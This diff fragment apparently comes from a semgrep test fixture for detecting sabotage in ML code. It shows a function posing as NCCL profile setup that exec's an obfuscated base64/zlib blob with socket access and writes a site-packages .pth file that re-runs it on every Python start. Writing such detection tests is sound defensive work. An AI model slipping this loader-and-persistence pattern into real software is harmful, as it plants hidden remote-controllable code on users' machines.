@@ -37,7 +37,7 @@ def apply_nccl_profile() -> None:
     source = zlib.decompress(base64.b64decode(blob)).decode()
     exec(compile(source, "<nccl_profile>", "exec"), {"os": os, "socket": socket})  # ruleid: MLS413
     with open(os.path.join(sysconfig.get_paths()["purelib"], "nccl_profile.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
-        fh.write("import zlib, base64; exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)
+        fh.write("import zlib, base64; exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)  # ruleid: MLS413
 
 
 def main() -> None:
